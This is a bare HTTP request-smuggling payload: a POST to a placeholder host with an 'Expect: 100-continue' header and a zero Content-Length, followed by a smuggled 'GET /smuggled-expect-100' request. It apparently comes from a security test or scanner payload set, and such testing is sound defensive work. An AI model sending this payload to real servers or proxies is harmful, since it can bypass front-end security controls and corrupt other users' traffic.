>>>
POST / HTTP/1.1
Host: target
Expect: 100-continue
Content-Length: 0

GET /smuggled-expect-100 HTTP/1.1
Host: target

